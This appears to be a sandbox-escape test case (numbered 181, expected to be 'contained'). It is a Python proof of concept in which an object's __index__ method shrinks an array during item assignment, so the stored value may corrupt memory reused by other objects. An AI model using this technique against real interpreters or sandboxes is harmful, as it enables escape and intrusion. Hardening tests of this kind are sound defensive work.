# escape: 181
# policy-wall: optional; it changes its own process alone
# technique: array[i] = value whose __index__ shrinks the array: the store lands in another object
# family: memory
# goal: memory
# expect: contained
from array import array
a = array('q', range(5000))
near = []
class Value:
    def __index__(self):
        del a[4:]
        near.extend(bytearray(39000) for _ in range(8))
        return 0x4141414141414141
try:
    a[4500] = Value()
except IndexError:
    pass
if any(b'AAAAAAAA' in b for b in near):
    print('ESCAPED: stored into another object')
